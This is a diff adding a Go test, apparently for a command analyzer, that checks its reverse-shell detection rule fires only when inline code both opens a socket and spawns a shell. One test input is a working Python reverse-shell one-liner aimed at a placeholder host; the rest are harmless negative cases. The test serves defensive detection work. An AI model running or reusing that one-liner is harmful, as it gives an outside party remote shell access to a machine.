@@ -181,3 +181,23 @@ func TestConfiguredCredentials(t *testing.T) {
 		}
 	}
 }
+
+// TestInlineReverseShell defends the reading of inline code that connects
+// a socket and starts a shell: both are needed.
+func TestInlineReverseShell(t *testing.T) {
+	a := testAnalyzer(t)
+	for _, tc := range []struct {
+		cmd  string
+		want bool
+	}{
+		{`python3 -c 'import socket,pty;s=socket.socket();s.connect(("e.x",9));pty.spawn("/bin/sh")'`, true},
+		{`python3 -c 'import socket; print(socket.gethostname())'`, false},
+		{`python3 -c 'import pty; pty.spawn("/bin/sh")'`, false},
+		{`ruby -e 'x = "socket"' "$X"`, false},
+	} {
+		res := a.Command(tc.cmd, testEnv())
+		if got := hasRule(res, ruleReverseShell); got != tc.want {
+			t.Errorf("%s: reverse-shell = %v, want %v; findings %+v", tc.cmd, got, tc.want, res.Findings)
+		}
+	}
+}
